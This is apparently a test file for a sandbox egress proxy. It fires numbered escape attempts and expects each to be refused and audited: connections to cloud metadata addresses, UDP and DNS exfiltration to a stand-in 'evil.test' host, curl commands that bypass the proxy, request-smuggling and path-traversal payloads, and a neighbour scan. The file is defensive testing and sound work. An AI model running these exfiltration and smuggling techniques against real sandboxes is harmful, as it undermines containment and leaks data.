/**
 * Promise 1: nothing reaches the network but through egress, and only what a route allows. Attacks of the boundary's
 * design (egress.md, section 7), rows 1–28, from inside a real bottle. Each is followed by an allowed request of the same
 * client, must leave the evil side untouched, and is one line of audit wherever egress saw it.
 *
 * Elsewhere, byte by byte on the proxy alone: authorities of every spelling (11, 12), smuggling shapes (20), SOCKS and
 * the rest of 15–19 in `docker/bundle/egress/proxy.test.ts` and `wire.test.ts`; bodies, slow clients and memory (27, 28)
 * in `bodies.test.ts`; what upstreams do in `upstreams.test.ts`.
 */
import { createSocket, type Socket } from 'node:dgram'
import { Resolver } from 'node:dns/promises'
import { connect } from 'node:net'
import { networkInterfaces } from 'node:os'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { engineAbsent, TestHome } from '../../backends/docker/testing/test-home.ts'
import { BottleWorld, mintWorldCa, until } from './bottle-world.ts'
import { Made } from './made.ts'
import { route } from './route.ts'
import { openTcp, Side } from './side.ts'

const TOKEN = 'real-network-token-5e8d1c7b9a3f2046'
const absent = await engineAbsent()

describe.skipIf(absent)(`from inside a bottle${absent ? ` (skipped: ${absent})` : ''}`, () => {
  const made = new Made()
  let world: BottleWorld
  let other: BottleWorld
  let origin: Side
  let evil: Side

  beforeAll(async () => {
    const ca = await mintWorldCa()
    origin = made.use(await Side.open(ca, ['origin.test', 'paths.test']))
    evil = made.use(await Side.open(ca, ['evil.test']))
    const home = made.use(await TestHome.create())
    const around = { ca, origin, evil, tokens: { API: TOKEN } }
    world = made.use(await BottleWorld.launch(home, around))
    other = made.use(await BottleWorld.launch(home, around))
    const ports = [origin.port, evil.port]
    await world.routes(
      [
        route('origin.test', {
          ports: [origin.port],
          auth: { scheme: 'Bearer', header: 'authorization', slot: 'API' },
        }),
        route('paths.test', { ports: [origin.port], matches: [{ paths: [{ type: 'prefix', value: '/open' }] }] }),
        // Names that lead to private addresses when they are looked up beside the bottle: rebinding.
        route('localhost', { ports }),
        route('bundle', { ports: [9099] }),
        route(other.plan.container, { ports }),
      ],
      // Egress knows where the evil side is: only the list keeps the bottle from it.
      ['origin.test', 'paths.test', 'evil.test'],
    )
  })
  afterAll(() => made[Symbol.asyncDispose]())
  afterEach(() => {
    origin.forget()
    evil.forget()
    origin.answer = (_request, response) => void response.end('ok')
  })

  const at = () => `origin.test:${origin.port}`
  const inside = (send: string) => ({ kind: 'tunnel', to: at(), send: send.replaceAll('HERE', at()) }) as const
  const paths = (target: string) => world.request('paths.test', `GET ${target}`)
  const refused = async (authorities: readonly string[]) => {
    const { replies, audit } = await world.attack(...authorities.map(connectTo))
    expect(replies.filter((reply) => !/^HTTP\/1.1 40[03] /.test(reply))).toEqual([])
    expect(audit.map(({ outcome }) => outcome)).toEqual(authorities.map(() => 'refused'))
  }
  const connectTo = (authority: string) => ({ kind: 'tunnel', to: authority, send: '' }) as const
  /** Every address by which this machine might be found, on a port where somebody listens. */
  const hostPorts = (port: number) =>
    [...hostAddresses(), world.addresses.gateway, other.addresses.gateway, world.gateway, other.gateway].map(
      (address) => `${address}:${port}`,
    )

  describe('there is no way but the proxy', () => {
    test('1 a public address is not reached', async () => {
      const { reply, audit } = await world.attack({ kind: 'tcp', to: '1.1.1.1:443' }, { kind: 'tcp', to: '8.8.8.8:53' })
      expect(reply).not.toContain('REACHED')
      expect(audit).toEqual([])
      const { code } = await world.sh('curl -s -m 2 --noproxy "*" https://1.1.1.1')
      expect([7, 28]).toContain(code)
    })
    test('2 there is no IPv6', async () => {
      const reply = await world.acts(['[2606:4700:4700::1111]:443', '[fd00::2]:443'].map((to) => ({ kind: 'tcp', to })))
      expect(reply.join()).not.toContain('REACHED')
      expect((await world.sh('grep -v " lo$" /proc/net/if_inet6')).stdout).toBe('')
    })
    test('3 no datagram leaves, and there are no raw sockets', async () => {
      await using logger = await DatagramLogger.open(0, '0.0.0.0')
      await control(hostAddresses()[0]!, logger.port)
      await until(() => logger.heard.includes('control'))
      await world.attack(...hostPorts(logger.port).map((to) => ({ kind: 'udp', to, text: 'exfil' }) as const))
      expect(logger.heard.filter((text) => text.includes('exfil'))).toEqual([])
      const raw = (kind: string) => world.sh(`python3 -c 'import _socket as s; s.socket(${kind})'`)
      for (const kind of ['s.AF_INET, s.SOCK_RAW, 1', 's.AF_PACKET, s.SOCK_RAW, 0'])
        expect((await raw(kind)).stderr).toContain('Operation not permitted')
    })
    test('4 cloud metadata is not reached, directly or by proxy', async () => {
      const addresses = ['169.254.169.254', '169.254.170.2', '100.100.100.200', '168.63.129.16', '[fd00:ec2::254]']
      const direct = await world.acts(addresses.map((address) => ({ kind: 'tcp', to: `${address}:80` })))
      expect(direct.join()).not.toContain('REACHED')
      const authorities = [...addresses.map((address) => `${address}:80`), 'metadata.google.internal:80']
      await refused(authorities)
    })
    test('5 no address of this machine is reached: gateways of all networks, and its own', async () => {
      await control(hostAddresses()[0]!, evil.port)
      await until(() => evil.connected.length > 0)
      evil.forget()
      const { reply } = await world.attack(...hostPorts(evil.port).map((to) => ({ kind: 'tcp', to }) as const))
      expect(reply).not.toContain('REACHED')
    })
    test('6 no service of this machine is reached: dashboard on loopback, engine, shell, whatever listens', async () => {
      await using dashboard = await openTcp('127.0.0.1')
      await control('127.0.0.1', dashboard.port)
      const ports = [dashboard.port, 4747, 22, 2375, 2376]
      const direct = await world.acts(
        ports.flatMap((port) =>
          ['127.0.0.1', world.addresses.gateway].map((host) => ({ kind: 'tcp', to: `${host}:${port}` })),
        ),
      )
      expect(direct.join()).not.toContain('REACHED')
      await refused(
        ['localhost', 'host.docker.internal', 'gateway.docker.internal'].map((host) => `${host}:${dashboard.port}`),
      )
    })
    test('7 another bottle is not reached, by address, name or its proxy', async () => {
      await other.sh('node -e "require(\'net\').createServer().listen(7777)" >/dev/null 2>&1 & sleep 0.3')
      expect(await other.acts([{ kind: 'tcp', to: `${other.addresses.agent}:7777` }])).toEqual(['REACHED'])
      const { agent, bundle } = other.addresses
      const { reply } = await world.attack(
        { kind: 'tcp', to: `${agent}:7777` },
        { kind: 'tcp', to: `${bundle}:9099` },
        { kind: 'tcp', to: `${other.plan.container}:7777` },
      )
      expect(reply).not.toContain('REACHED')
      // Whoever else is in the neighbourhood: the last byte of every agent's address is 3 modulo 16.
      const network = agent.split('.').slice(0, 3).join('.')
      const scan = Array.from({ length: 16 }, (_, n) => `${network}.${n * 16 + 3}:7777`)
      const own = `${world.addresses.agent}:7777`
      const seen = await world.acts(scan.filter((to) => to !== own).map((to) => ({ kind: 'tcp', to })))
      expect(seen.join()).not.toContain('REACHED')
    })
    test('8 no name is asked for outside: there is no way out by DNS', async (context) => {
      const logger = await DatagramLogger.open(53, '127.0.0.1').catch(() => null)
      if (!logger) return context.skip('port 53 of this machine is taken or not ours')
      await using heard = logger
      const own = new Resolver({ timeout: 300, tries: 1 })
      own.setServers(['127.0.0.1'])
      await own.resolve4('control.evil.test').catch(() => {})
      expect(heard.heard.join()).toContain('control')
      const name = 'c2VjcmV0.evil.test'
      const servers = [undefined, '127.0.0.11', '127.0.0.1', world.addresses.bundle, ...hostAddresses()]
      const { reply } = await world.attack(
        ...servers.map((server) => ({ kind: 'name', name, ...(server && { server }) }) as const),
      )
      expect(reply).not.toMatch(/\d+\.\d+\.\d+\.\d+/)
      expect((await world.sh(`getent hosts ${name}`)).code).toBe(2)
      expect(heard.heard.join()).not.toContain('c2VjcmV0')
    })
    test('9 resolvers over TCP, TLS and HTTPS are not reached', async () => {
      const direct = await world.acts(['1.1.1.1:53', '1.1.1.1:853', '8.8.8.8:853'].map((to) => ({ kind: 'tcp', to })))
      expect(direct.join()).not.toContain('REACHED')
      await refused(['dns.google:443', 'cloudflare-dns.com:443', '1.1.1.1:443'])
    })
    test('37 a program that ignores the proxy has no route', async () => {
      const { code } = await world.sh(`curl -sk -m 2 --noproxy '*' https://${world.gateway}:${evil.port}/`, {
        env: ['NO_PROXY=*', 'HTTPS_PROXY=', 'https_proxy='],
      })
      expect([7, 28]).toContain(code)
      expect(evil.connected).toEqual([])
    })
    test('38 a program that trusts nobody, or everybody, reaches no more', async () => {
      const ask = (flags: string, host: string, port: number) =>
        world.sh(`curl -s -m 3 -o /dev/null -w '%{http_code} %{http_connect}' ${flags} https://${host}:${port}/`)
      expect((await ask('--cacert /dev/null', 'origin.test', origin.port)).code).not.toBe(0)
      expect((await ask('-k', 'origin.test', origin.port)).stdout).toBe('200 200')
      const told = world.told.length
      expect((await ask('-k', 'evil.test', evil.port)).stdout).toBe('000 403')
      expect(evil.connected).toEqual([])
      // Its line is waited for, or the next attack would take it for its own.
      await until(() => world.told.slice(told).some(({ host, rule }) => host === 'evil.test' && rule === 'not-listed'))
    })
  })

  test.each<[promise: string, authority: () => string, status: number, rule: string]>([
    ['10 a host that is not on the list', () => `evil.test:${evil.port}`, 403, 'not-listed'],
    ['10 a listed host on another port', () => `origin.test:${evil.port}`, 403, 'port-not-listed'],
    ['11 this machine’s address', () => `${world.gateway}:${evil.port}`, 400, 'address-literal'],
    ['11 the same as one number', () => `${asNumber(world.gateway)}:${evil.port}`, 400, 'address-literal'],
    ['11 the same as mapped IPv6', () => `[::ffff:${world.gateway}]:${evil.port}`, 400, 'address-literal'],
    ['12 a listed name with a trailing dot', () => `origin.test.:${origin.port}`, 400, 'malformed'],
    ['12 a user in front of it', () => `origin.test@evil.test:${evil.port}`, 400, 'malformed'],
    ['12 an escape in it', () => `origin%2etest:${origin.port}`, 400, 'malformed'],
    ['12 its look-alike in Unicode', () => `\u043frigin.test:${origin.port}`, 400, 'malformed'],
    ['12 a zero before the port', () => `origin.test:0${origin.port}`, 400, 'malformed'],
    ['22 the proxy itself', () => `${world.addresses.bundle}:9099`, 400, 'address-literal'],
    ['22 the proxy by its address’ name', () => 'localhost:9099', 403, 'port-not-listed'],
  ])('%s is refused before a connection is made', async (_, authority, status, rule) => {
    const { reply, audit } = await world.attack(connectTo(authority()))
    expect(reply).toMatch(new RegExp(`^HTTP/1.1 ${status} `))
    expect(audit).toMatchObject([{ outcome: 'refused', method: 'CONNECT', rule }])
  })

  test.each<[promise: string, host: () => string, port: () => number]>([
    ['21 a listed name that leads to this machine’s loopback', () => 'localhost', () => evil.port],
    ['21 a listed name that leads to another container', () => other.plan.container, () => evil.port],
    ['22 a listed name that leads to the proxy itself', () => 'bundle', () => 9099],
  ])('%s is refused when it is resolved', async (_, host, port) => {
    const to = `${host()}:${port()}`
    const send = `GET / HTTP/1.1\r\nHost: ${to}\r\nConnection: close\r\n\r\n`
    const { reply, audit } = await world.attack({ kind: 'tunnel', to, send })
    expect(reply).toMatch(/^HTTP\/1.1 (403|502) /)
    expect(audit).toMatchObject([{ outcome: 'refused' }])
    expect(['private-address', 'upstream']).toContain(audit[0]?.rule)
  })

  test.each<[promise: string, act: () => Parameters<BottleWorld['attack']>[0], reply: RegExp, rule: string]>([
    ['13 another name in TLS', () => ({ ...inside(''), servername: 'evil.test' }), /^\(/, 'host-mismatch'],
    [
      '14 another name in Host',
      () => inside('GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'),
      /^HTTP\/1.1 421 /,
      'host-mismatch',
    ],
    [
      '15 two Hosts',
      () => inside('GET / HTTP/1.1\r\nHost: HERE\r\nHost: evil.test\r\n\r\n'),
      /^HTTP\/1.1 400 /,
      'host-mismatch',
    ],
    [
      '16 an absolute target',
      () => inside(`GET https://evil.test:${evil.port}/ HTTP/1.1\r\nHost: HERE\r\n\r\n`),
      /^HTTP\/1.1 400 /,
      'malformed',
    ],
    [
      '16 CONNECT inside CONNECT',
      () => inside(`CONNECT evil.test:${evil.port} HTTP/1.1\r\nHost: HERE\r\n\r\n`),
      /^HTTP\/1.1 405 /,
      'method',
    ],
    ['17 SSH in CONNECT', () => ({ ...inside('SSH-2.0-x\r\n'), plain: true }), /^\(closed\)$/, 'not-tls'],
    ['18 HTTP/2 by prior knowledge', () => inside('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), /^HTTP\/1.1 400 /, 'malformed'],
    [
      '18 an upgrade to h2c',
      () => inside('GET / HTTP/1.1\r\nHost: HERE\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n'),
      /^HTTP\/1.1 403 /,
      'websocket',
    ],
    ['19 SOCKS', () => ({ kind: 'proxy', send: '\x05\x01\x00' }), /^HTTP\/1.1 400 |^\(closed\)$/, 'malformed'],
    [
      '20 a body of two lengths',
      () => inside('POST / HTTP/1.1\r\nHost: HERE\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'),
      /^HTTP\/1.1 400 /,
      'malformed',
    ],
    [
      '20 plain HTTP to a host that is not listed',
      () => ({
        kind: 'proxy',
        send: `GET http://evil.test:${evil.port}/ HTTP/1.1\r\nHost: evil.test:${evil.port}\r\n\r\n`,
      }),
      /^HTTP\/1.1 403 /,
      'not-listed',
    ],
    ['24 dot segments round a path rule', () => paths('/open/../admin'), /^HTTP\/1.1 400 /, 'path'],
    ['24 escaped dot segments', () => paths('/open/%2e%2e/admin'), /^HTTP\/1.1 400 /, 'path'],
    ['24 escaped slashes', () => paths('/open%2f..%2fadmin'), /^HTTP\/1.1 400 /, 'path'],
    ['24 twice escaped', () => paths('/open/%252e%252e/admin'), /^HTTP\/1.1 400 /, 'path'],
    ['24 a double slash', () => paths('//admin'), /^HTTP\/1.1 400 /, 'path'],
    ['24 parameters', () => paths('/open;/../admin'), /^HTTP\/1.1 400 /, 'path'],
    ['24 a path that only begins like it', () => paths('/openly'), /^HTTP\/1.1 403 /, 'no-match'],
    ['25 TRACE', () => inside('TRACE / HTTP/1.1\r\nHost: HERE\r\n\r\n'), /^HTTP\/1.1 405 /, 'method'],
    [
      '26 a WebSocket without leave',
      () =>
        inside(
          'GET / HTTP/1.1\r\nHost: HERE\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n',
        ),
      /^HTTP\/1.1 403 /,
      'websocket',
    ],
    [
      '28 a header of 100 KB',
      () => inside(`GET / HTTP/1.1\r\nHost: HERE\r\nX-A: ${'a'.repeat(100_000)}\r\n\r\n`),
      /^HTTP\/1.1 400 |^\(/,
      'too-large',
    ],
  ])('%s is refused, and nothing arrives', async (_, act, reply, rule) => {
    const outcome = await world.attack(act())
    expect(outcome.reply).toMatch(reply)
    expect(outcome.arrived).toEqual([])
    expect(outcome.audit).toMatchObject([{ outcome: 'refused', rule }])
  })

  test('24 the path that is allowed arrives', async () => {
    const { reply, arrived } = await world.attack(paths('/open/door'))
    expect(reply).toMatch(/^HTTP\/1.1 200 /)
    expect(arrived).toMatchObject([{ url: '/open/door' }])
  })
  test('25 a method is not exchanged by a header', async () => {
    const { arrived } = await world.attack(world.request('origin.test', 'POST /x', ['X-HTTP-Method-Override: DELETE']))
    expect(arrived[0]?.rawHeaders.join().toLowerCase()).not.toContain('override')
  })
  test('20 a second request behind the first is judged by itself', async () => {
    const { arrived, audit } = await world.attack(
      inside('GET /first HTTP/1.1\r\nHost: HERE\r\n\r\nGET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n'),
    )
    expect(arrived.map(({ url }) => url)).toEqual(['/first'])
    // Told as they are over, so the refused one may come first.
    expect(audit.map(({ rule }) => rule).sort()).toEqual(['host-mismatch', undefined])
  })
  test('23 a redirect is not followed by egress, and judged anew when the client follows it', async () => {
    origin.answer = (request, response) =>
      void response
        .writeHead(request.url === '/away' ? 302 : 200, { location: `https://evil.test:${evil.port}/` })
        .end()
    const { reply, arrived, audit } = await world.attack(world.request('origin.test', 'GET /away'))
    expect(reply).toMatch(/^HTTP\/1.1 302 /)
    expect(arrived).toHaveLength(1)
    expect(audit).toHaveLength(1)
    const { stdout } = await world.sh(`curl -sL -m 4 -o /dev/null -w '%{http_connect}' https://${at()}/away`)
    expect(stdout).toBe('403')
    expect(evil.connected).toEqual([])
  })
  test('27 hundreds of half-open tunnels keep nobody else out', async () => {
    const { reply } = await world.attack({ kind: 'halfOpen', to: at(), count: 800 })
    expect(reply).toBe('800 open')
  })
  test('no token is in anything that a bottle leaves behind', async () => {
    expect((await world.placesOf(await world.canary())).length, 'the control: what is there is found').toBeGreaterThan(
      1,
    )
    expect(await world.placesOf(TOKEN)).toEqual([])
  })
})

const hostAddresses = (): string[] =>
  Object.values(networkInterfaces()).flatMap((all) =>
    (all ?? []).flatMap(({ address, family, internal }) => (family === 'IPv4' && !internal ? [address] : [])),
  )
const asNumber = (address: string): number => address.split('.').reduce((sum, byte) => sum * 256 + Number(byte), 0)

/** Reached from here, so that not being reached from the bottle says something. Datagrams are sent to it as well. */
async function control(host: string, port: number): Promise<void> {
  const udp = createSocket('udp4')
  await new Promise((resolve) => udp.send('control', port, host, resolve))
  udp.close()
  await new Promise<void>((resolve) => {
    const socket = connect(port, host, () => {
      socket.destroy()
      resolve()
    }).on('error', () => resolve())
  })
}

class DatagramLogger implements AsyncDisposable {
  readonly heard: string[] = []
  private constructor(private readonly socket: Socket) {
    socket.on('message', (message) => this.heard.push(message.toString('latin1')))
  }
  static async open(port: number, host: string): Promise<DatagramLogger> {
    const socket = createSocket('udp4')
    await new Promise<void>((resolve, reject) => socket.once('error', reject).bind(port, host, resolve))
    return new DatagramLogger(socket)
  }
  get port(): number {
    return this.socket.address().port
  }
  [Symbol.asyncDispose](): Promise<void> {
    return new Promise((resolve) => this.socket.close(() => resolve()))
  }
}
